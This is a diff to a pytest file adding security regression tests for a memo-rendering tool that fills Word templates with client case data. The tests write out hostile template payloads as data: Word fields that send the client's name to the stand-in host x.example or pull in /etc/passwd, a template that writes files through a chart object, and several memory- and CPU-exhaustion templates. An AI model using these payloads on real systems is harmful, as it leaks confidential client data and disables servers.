@@ -7,7 +7,7 @@ import subprocess
 import pytest
 from docx import Document
 
-from assessment import assess, casefile, memo
+from assessment import template_store, assess, casefile, memo
 from assessment.errors import AssessmentError
 from conftest import DEMO, ROOT, run_cli
 
@@ -20,7 +20,7 @@ def render(kb, name="off-duty-lookups", **edits):
     if edits:
         case = case.model_copy(update=edits)
     result = assess.assess(case, kb, folder, AS_OF)
-    return result, case, memo.render(result, case)
+    return result, case, memo.render(result, case, template_store.builtin())
 
 
 def all_text(doc) -> str:
@@ -165,7 +165,234 @@ def test_bad_or_malicious_templates_are_refused(kb, tmp_path, tag, expect):
     with pytest.raises(AssessmentError) as err:
         memo.render(result, case, _template_with(tmp_path, tag))
     (p,) = err.value.problems
-    assert p.code == "TP001" and expect in p.message and p.file.endswith("t.docx")
+    assert p.code == "TP001" and expect in p.message and p.file.endswith("t.docx") and p.field == "paragraph 1"
+
+
+# ---- issue 13, H4: staff templates could exfiltrate client data and exhaust the server ------------------
+CLIENT = "Riley Tran"                   # the client of the off-duty-lookups demo case
+FIELD = ('</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {instr} '
+         '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r>'
+         '<w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>')
+EXFILTRATION = {   # each a `|safe` string that writes a Word field into the memo's XML
+    "INCLUDEPICTURE with the client's name": ("INCLUDEPICTURE", "INCLUDEPICTURE \"http://x.example/' ~ client.name ~ '.png\""),
+    "HYPERLINK with the client's name": ("HYPERLINK", "HYPERLINK \"http://x.example/?c=' ~ client.name ~ '\""),
+    "INCLUDETEXT of a server file": ("INCLUDETEXT", "INCLUDETEXT \"/etc/passwd\""),
+}
+
+
+def _demo(kb, name="off-duty-lookups", **client):
+    folder = DEMO / name
+    case = casefile.load(folder / "case.yaml", kb)
+    if client:
+        case = case.model_copy(update={"client": case.client.model_copy(update=client)})
+    return assess.assess(case, kb, folder, AS_OF), case
+
+
+def _docx(*paragraphs: str) -> bytes:
+    d = Document()
+    for text in paragraphs:
+        d.add_paragraph(text)
+    buf = io.BytesIO()
+    d.save(buf)
+    return buf.getvalue()
+
+
+def _with_xml(template: bytes, paragraph_xml: str) -> bytes:
+    """The template with a raw <w:p> added to its body (as a hand-edited .docx can have)."""
+    import zipfile
+    src, buf = zipfile.ZipFile(io.BytesIO(template)), io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
+        for info in src.infolist():
+            part = src.read(info.filename)
+            if info.filename == "word/document.xml":
+                part = part.replace(b"<w:body>", b"<w:body>" + paragraph_xml.encode(), 1)
+            out.writestr(info.filename, part)
+    return buf.getvalue()
+
+
+def _render_as_before(template: bytes, result: dict, case, charts: dict | None = None) -> bytes:
+    """The render of the code before the fix, in this process: Jinja's immutable sandbox with its
+    `safe` filter, the charts' InlineImage objects handed to the template, no limits, no scan."""
+    from docx.shared import Mm
+    from docxtpl import DocxTemplate, InlineImage
+    from jinja2 import StrictUndefined
+    from jinja2.sandbox import ImmutableSandboxedEnvironment
+    doc = DocxTemplate(io.BytesIO(template))
+    ctx = memo.context(result, case)
+    ctx["charts"] = [{"title": t, "image": InlineImage(doc, io.BytesIO(png), width=Mm(160))}
+                     for t, png in (charts or {}).items()]
+    doc.render(ctx, jinja_env=ImmutableSandboxedEnvironment(autoescape=True, undefined=StrictUndefined),
+               autoescape=True)
+    buf = io.BytesIO()
+    doc.save(buf)
+    return buf.getvalue()
+
+
+def _refusal(result, case, template, name="t.docx", **kw):
+    with pytest.raises(AssessmentError) as err:
+        memo.render(result, case, template, template_name=name, **kw)
+    (p,) = err.value.problems
+    assert p.file == name, p
+    return p
+
+
+@pytest.fixture
+def small_limits(monkeypatch):
+    """One CPU second and 150 MB per render, so an attack ends quickly."""
+    monkeypatch.setenv("CLETS_RENDER_CPU_SECONDS", "1")
+    monkeypatch.setenv("CLETS_RENDER_MEMORY_MB", "150")
+
+
+@pytest.mark.parametrize("attack", list(EXFILTRATION))
+def test_a_safe_string_wrote_a_field_carrying_client_data_and_is_refused_now(kb, attack):
+    from assessment import template_store
+    word, instr = EXFILTRATION[attack]
+    tag = "{{ ('" + FIELD.format(instr=instr) + "')|safe }}"
+    template = _docx("Memo", tag)
+    result, case = _demo(kb)
+    before = _render_as_before(template, result, case)              # the attack as it worked
+    xml = zipfile_part(before, "word/document.xml")
+    assert f"<w:instrText xml:space=\"preserve\"> {word}".encode() in xml
+    if "client" in instr:
+        assert CLIENT.encode() in xml
+    flagged = template_store.check_rendered(before, "t.docx")      # the scan of the output would catch it too
+    assert [p.code for p in flagged] == ["TP004"] and f"a {word} field" in flagged[0].message
+    p = _refusal(result, case, template)                              # now: no `safe`, nothing rendered
+    assert p.code == "TP001" and "No filter named 'safe'" in p.message and p.field == "paragraph 2"
+
+
+def zipfile_part(docx: bytes, name: str) -> bytes:
+    import zipfile
+    return zipfile.ZipFile(io.BytesIO(docx)).read(name)
+
+
+@pytest.mark.parametrize("instr, word", [
+    ('INCLUDEPICTURE "http://x.example/{{ client.name }}.png" \\d', "INCLUDEPICTURE"),
+    ('HYPERLINK "http://x.example/?c={{ client.name }}"', "HYPERLINK"),
+    ('INCLUDETEXT "/etc/passwd"', "INCLUDETEXT"),
+    ("{{ 'INCLUDE' ~ 'TEXT' }} &quot;/etc/passwd&quot;", "INCLUDETEXT"),      # the field's name written by a tag
+])
+def test_a_field_in_the_template_that_fetches_is_refused_in_the_rendered_memo(kb, instr, word):
+    """A template that skipped the upload check (`--template`, CLETS_MEMO_TEMPLATE) with a field
+    whose instruction renders client data: the memo is scanned after rendering and refused."""
+    xml = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
+           + instr.replace('"', "&quot;") + ' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+    result, case = _demo(kb)
+    p = _refusal(result, case, _with_xml(_docx("Memo"), xml))
+    assert p.code == "TP004" and f"the rendered memo holds a {word} field" in p.message
+    assert p.field == "paragraph 1 of the rendered memo"
+    assert CLIENT in p.hint if "client" in instr else True
+
+
+def test_a_split_field_instruction_is_read_whole_in_the_rendered_memo(kb):
+    """`INCL` and `UDEPICTURE ...` in two runs: each harmless to a check of one run at a time."""
+    xml = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCL</w:instrText></w:r><w:r>'
+           '<w:instrText xml:space="preserve">UDEPICTURE "http://x.example/{{ client.name }}.png" </w:instrText></w:r>'
+           '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar '
+           'w:fldCharType="end"/></w:r></w:p>')
+    result, case = _demo(kb)
+    p = _refusal(result, case, _with_xml(_docx("Memo"), xml))
+    assert p.code == "TP004" and "the rendered memo holds a INCLUDEPICTURE field" in p.message
+    assert p.field == "paragraph 1 of the rendered memo" and f"http://x.example/{CLIENT}.png" in p.hint
+
+
+def test_a_chart_no_longer_hands_the_document_to_the_template(kb, tmp_path):
+    """`{{ ch.image.tpl.save(path) }}` wrote the memo anywhere the app could write (and the same
+    object read any .docx on the server into the memo, new_subdoc)."""
+    png = (ROOT / "docs" / "screenshot.png").read_bytes()
+    target = tmp_path / "written-by-a-template.docx"
+    template = _docx("{% for ch in charts %}{{ ch.image.tpl.save('" + str(target) + "') }}{% endfor %}")
+    result, case = _demo(kb)
+    _render_as_before(template, result, case, charts={"Timeline": png})
+    assert target.exists()                                             # the attack as it worked
+    target.unlink()
+    p = _refusal(result, case, template, charts={"Timeline": png})
+    assert p.code == "TP001" and "has no attribute 'tpl'" in p.message and p.field == "paragraph 1"
+    assert not target.exists()
+    ok = memo.render(result, case, _docx("{% for ch in charts %}{{ ch.title }}: {{ ch.image }}{% endfor %}"),
+                     charts={"Timeline": png})
+    assert zipfile_part(ok, "word/document.xml").count(b"<pic:pic") == 1    # printing a chart still works
+
+
+DOUBLING = "{% set ns = namespace(s='ab') %}{% for i in range(64) %}{% set ns.s = EXPR %}{% endfor %}{{ ns.s|length }}"
+
+
+@pytest.mark.parametrize("tag, what", [
+    (DOUBLING.replace("EXPR", "ns.s|replace('a', 'aa')|replace('b', 'bb')"), "replace would build a value of 1,048,576"),
+    (DOUBLING.replace("EXPR", "ns.s ~ ns.s"), "~ would build a value of 1,048,576"),
+    (DOUBLING.replace("EXPR", "ns.s + ns.s"), "+ would build a value of 1,048,576"),
+    ("{{ 'x'|center(500000000) }}", "center would build a value of 500,000,000"),          # center(5e8): 583 MB before
+    ("{{ 'x'.ljust(500000000) }}", "ljust would build a value of 500,000,000"),
+    ("{{ 'x'|indent(500000000, true) }}", "indent would build a value of 500,000,000"),
+    ("{{ '%0500000000d'|format(1) }}", "format would build a value of 500,000,0"),
+    ("{{ '{:>500000000}'.format(1) }}", "format would build a value of 500,000,0"),
+    ("{{ ['ab']|batch(500000000, '-')|list }}", "batch would build a value of 500,000,000"),
+    ("{% set l = ['x' * 100000] * 10 %}{{ ([l] * 10)|string }}", "would write out a value of more than 1,000,000"),
+    ("{{ ((9 ** 64) ** 64) ** 64 }}", "a number of about 12,992 bits"),
+    ("{% for i in range(100000) %}{{ 'x' * 100000 }}{% endfor %}", "more than 50,000,000 characters into one part"),
+])
+def test_templates_cannot_build_huge_values(kb, small_limits, tag, what):
+    """Each refused before it allocates, as a jinja2 SecurityError, located; under a 150 MB limit."""
+    result, case = _demo(kb)
+    p = _refusal(result, case, _docx("Memo", tag))
+    assert p.code == "TP001" and p.message.startswith("SecurityError: ") and what in p.message, p.message
+    assert p.field == "paragraph 2"
+
+
+def test_a_template_past_the_memory_limit_gets_a_located_error(kb, small_limits):
+    """Many values each under the bound, kept together: the worker's memory limit ends it."""
+    result, case = _demo(kb)
+    p = _refusal(result, case, _docx("Memo", "{{ range(100000)|map('center', 900000)|list|length }}"))
+    assert p.code == "TP003" and "more than 150 MB" in p.message and p.field == "paragraph 2"
+
+
+def test_a_loop_bomb_that_passes_on_the_demo_case_stops_at_the_time_limit_on_another_matter(kb, small_limits):
+    """10^10 iterations when the client's name has 11 letters, none on the demo case's 10: the
+    upload check accepts it; the memo of another matter stops at the CPU limit, located."""
+    from assessment import template_store
+    bomb = _docx("Memo for {{ client.name }}", "{% set n = (client.name|length - 10) * 100000 %}"
+                 "{% for i in range(n) %}{% for j in range(n) %}{% endfor %}{% endfor %}")
+    assert template_store.check(bomb, "t.docx") == []
+    result, case = _demo(kb, "front-counter-login")
+    assert len(case.client.name) == 11
+    p = _refusal(result, case, bomb)
+    assert p.code == "TP002" and "at most 1 s of processor time" in p.message and p.field == "paragraph 2"
+
+
+def test_one_long_operation_is_killed_at_the_hard_cpu_limit(kb, small_limits):
+    """Comparing two lists built by doubling is one call into C (2^40 steps): no Python code runs
+    to raise the soft limit's signal, so the hard limit kills the worker; the memo names the file."""
+    result, case = _demo(kb)
+    tag = ("{% set a = namespace(s=['ab']) %}{% set b = namespace(s=['ab']) %}{% for i in range(40) %}"
+           "{% set a.s = [a.s, a.s] %}{% set b.s = [b.s, b.s] %}{% endfor %}{{ a.s == b.s }}")
+    p = _refusal(result, case, _docx("Memo", tag))
+    assert p.code == "TP002" and "it was stopped when it used up its processor time" in p.message
+
+
+def test_a_render_past_the_wall_clock_limit_is_stopped(kb, monkeypatch):
+    from assessment import render_worker
+    monkeypatch.setattr(render_worker, "limits", lambda: (20, 512, 0.01))
+    result, case = _demo(kb)
+    p = _refusal(result, case, _docx("{{ client.name }}"))
+    assert p.code == "TP002" and "it was stopped after 0.01 s of waiting" in p.message
+
+
+def test_render_limits_come_from_the_environment(monkeypatch):
+    from assessment import render_worker
+    monkeypatch.setenv("CLETS_RENDER_CPU_SECONDS", "3")
+    monkeypatch.setenv("CLETS_RENDER_MEMORY_MB", "300")
+    assert render_worker.limits() == (3, 300, 16)
+    monkeypatch.setenv("CLETS_RENDER_CPU_SECONDS", "soon")
+    monkeypatch.setenv("CLETS_RENDER_MEMORY_MB", "-5")
+    assert render_worker.limits()[:2] == (render_worker.CPU_SECONDS, render_worker.MEMORY_MB)
+
+
+def test_the_worker_gets_no_secrets_from_the_app(kb, monkeypatch):
+    """The worker's environment holds no database address or key path: a sandbox escape would
+    find nothing to use."""
+    from assessment import render_worker
+    monkeypatch.setenv("CLETS_DATABASE_URL", "postgresql+psycopg://app:secret@db/clets")
+    assert not any(k.startswith("CLETS_") for k in render_worker._worker_env())
 
 
 def test_memo_command_writes_docx(tmp_path):
